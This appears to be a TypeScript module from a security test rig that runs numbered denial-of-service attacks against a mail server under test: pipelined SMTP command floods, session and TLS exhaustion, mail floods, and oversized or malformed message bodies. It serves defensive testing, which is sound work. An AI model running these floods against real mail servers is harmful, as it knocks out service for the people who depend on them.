import { setTimeout as sleep } from "node:timers/promises"
import { ATTACKER_ADDRESSES, type DefenseRig } from "../DefenseRig.ts"
import { hostileHtml, hostileText, type Shape } from "../../growth/HostileText.ts"
import { SmtpConnection } from "../SmtpConnection.ts"
import { type Attack, type AttackStage, inParallel } from "./Attack.ts"

const [ATTACKER] = ATTACKER_ADDRESSES
const MIB = 1024 * 1024
/** After a session that ended, so that a refusing server is not answered with a busy loop. */
const RETRY_MILLIS = 20
/** As many sessions as one address may have. */
const SESSIONS_PER_ADDRESS = 50

type Session = (connection: SmtpConnection) => Promise<void>

/** Opens sessions, each again when it has ended, and counts their replies. */
const hold = async (
  stage: AttackStage,
  sessions: number,
  session: Session,
  addressOf: (worker: number) => string = () => ATTACKER
): Promise<void> => {
  const { count, rig, signal } = stage
  await inParallel(stage, sessions, async (worker) => {
    const connection = new SmtpConnection({ ...rig.smtp, localAddress: addressOf(worker) })
    const stop = () => connection.destroy()
    signal.addEventListener("abort", stop, { once: true })
    if (await connection.greet()) {
      count("sessions")
      await session(connection)
    } else if (!signal.aborted) count("sessions refused")
    signal.removeEventListener("abort", stop)
    connection.destroy()
    await sleep(RETRY_MILLIS)
  })
}

/** Repeats the same commands without waiting for replies. */
const repeat =
  ({ count, signal }: AttackStage, commands: string): Session =>
  async (connection) => {
    connection.onReply = (reply) => count(`reply ${reply.slice(0, 3)}`)
    while (!signal.aborted && !connection.isClosed) {
      await connection.write(commands)
      // The replies need a turn to be read.
      await sleep(0)
    }
  }

interface Letter {
  readonly from: string
  readonly mail: Uint8Array
}

/** Sends mails repeatedly. */
const deliver = (stage: AttackStage, mail: () => Uint8Array): Session =>
  deliverLetters(stage, () => ({ from: FLOOD, mail: mail() }))

const deliverLetters =
  ({ count, rig, signal }: AttackStage, letter: () => Letter): Session =>
  async (connection) => {
    const to = rig.attacker.mailbox.address
    while (!signal.aborted && !connection.isClosed) {
      const { from, mail } = letter()
      const codes = [await connection.command(`MAIL FROM:<${from}>`)]
      if (codes[0] === 250) codes.push(await connection.command(`RCPT TO:<${to}>`))
      if (codes.at(-1) === 250) codes.push(await connection.command("DATA"))
      if (codes.at(-1) !== 354) {
        count(`refused ${codes.at(-1) ?? "by closing"}`)
        await connection.command("RSET")
        await sleep(RETRY_MILLIS)
        continue
      }
      await connection.write(mail)
      count(`mails answered ${await connection.command("\r\n.").then((code) => code ?? "by closing")}`)
    }
  }

/** Sends letters repeatedly on connections from different addresses. */
export const deliverOver = (
  stage: AttackStage,
  sessions: number,
  letter: () => Letter,
  addressOf: (worker: number) => string
): Promise<void> => hold(stage, sessions, deliverLetters(stage, letter), addressOf)

const FLOOD = "flood@attacker.example"
let mails = 0
/** A mail with a text, or with further fields and their body. */
export const mailOf = (text: string, from = FLOOD, fields = ""): Uint8Array => {
  const id = `${process.pid}.${++mails}`
  const head = `From: ${from}\r\nTo: you\r\nSubject: flood ${id}\r\nMessage-ID: <${id}@attacker.example>\r\n${fields}\r\n`
  return Buffer.from(head + text, "latin1")
}

/** Mails whose text, of a type and a size, has the shapes in turn. */
const shapedMails = (type: string, shapes: ReadonlyArray<Shape>, sizeBytes: number): (() => Uint8Array) => {
  let next = 0
  return () => {
    const [, make] = shapes[next++ % shapes.length]!
    const encoded = Buffer.from(make(sizeBytes)).toString("base64").replaceAll(/.{76}/g, "$&\r\n")
    const fields = `MIME-Version: 1.0\r\nContent-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n`
    return mailOf(`${encoded}\r\n`, FLOOD, fields)
  }
}

const TEXT_LINE = `${"All work and no play makes Jack a dull boy. ".repeat(2)}\r\n`
const ofBytes = (line: string, bytes: number): string => line.repeat(Math.floor(bytes / line.length))

/** Whether the mails of the attack were delivered as unparsable messages. */
const countUnparsed = async ({ attacker }: DefenseRig): Promise<ReadonlyArray<string>> => {
  const path = `/api/v1/email/messages/query?mailboxId=${attacker.mailbox.mailboxId}&limit=100`
  const { body } = await attacker.agent.send({ path })
  const items = body.data["items"] as unknown as ReadonlyArray<{ readonly malformed?: boolean }>
  const unparsed = items.filter(({ malformed }) => malformed === true).length
  return unparsed === 0 ? [] : [`${unparsed} messages were delivered unparsed`]
}

export const SMTP_ATTACKS: ReadonlyArray<Attack> = [
  {
    name: "rcpt",
    finding: 2,
    summary: "pipelined RCPT TO for one existing mailbox on 50 connections",
    run: (stage) => {
      const recipient = `RCPT TO:<${stage.rig.attacker.mailbox.address}>\r\n`
      const commands = `MAIL FROM:<flood@attacker.example>\r\n${recipient.repeat(100)}RSET\r\n`
      return hold(stage, SESSIONS_PER_ADDRESS, repeat(stage, commands))
    }
  },
  {
    name: "text-mail",
    finding: 6,
    summary: "messages of 24 MB of plain text to one mailbox",
    run: (stage) => {
      const text = ofBytes(TEXT_LINE, 24 * MIB)
      return hold(
        stage,
        2,
        deliver(stage, () => mailOf(text))
      )
    },
    verify: countUnparsed
  },
  {
    name: "smtp-sessions",
    finding: 7,
    summary: "two addresses that hold every SMTP session they can get",
    run: (stage) =>
      hold(
        stage,
        SESSIONS_PER_ADDRESS * ATTACKER_ADDRESSES.length,
        async (connection) => {
          while ((await connection.reply()) !== undefined);
        },
        (worker) => ATTACKER_ADDRESSES[worker % ATTACKER_ADDRESSES.length]!
      )
  },
  {
    name: "noop",
    finding: 7,
    summary: "pipelined NOOP on 50 connections",
    run: (stage) => hold(stage, SESSIONS_PER_ADDRESS, repeat(stage, "NOOP\r\n".repeat(500)))
  },
  {
    name: "smtp-connections",
    finding: 7,
    summary: "SMTP sessions that greet and leave, on 50 connections",
    run: (stage) => hold(stage, SESSIONS_PER_ADDRESS, async () => undefined)
  },
  {
    name: "starttls",
    finding: 7,
    summary: "SMTP sessions that begin TLS and leave, on 50 connections",
    run: (stage) =>
      hold(stage, SESSIONS_PER_ADDRESS, async (connection) => {
        if ((await connection.command("STARTTLS")) !== 220) return stage.count("STARTTLS refused")
        await connection.secure()
        stage.count("TLS sessions")
      })
  },
  {
    name: "mail-flood",
    finding: 7,
    summary: "small mails from one sender to one mailbox on 10 connections",
    run: (stage) =>
      hold(
        stage,
        10,
        deliver(stage, () => mailOf("Hello\r\n"))
      )
  },
  {
    name: "quotes",
    finding: 8,
    summary: "mails of 128 KiB that may be quotes, marks and signatures, on 10 connections",
    run: (stage) => hold(stage, 10, deliver(stage, shapedMails("text/plain", hostileText, 128 * 1024)))
  },
  {
    name: "html",
    finding: 5,
    summary: "mails of 1 MiB of HTML that is never closed, on 4 connections",
    run: (stage) => hold(stage, 4, deliver(stage, shapedMails("text/html", hostileHtml, MIB)))
  },
  {
    name: "dot-lines",
    finding: 7,
    summary: "messages of 20 MB of lines that hold two dots",
    run: (stage) => {
      const text = "..\r\n".repeat((20 * MIB) / 4)
      return hold(
        stage,
        6,
        deliver(stage, () => mailOf(text))
      )
    }
  }
]
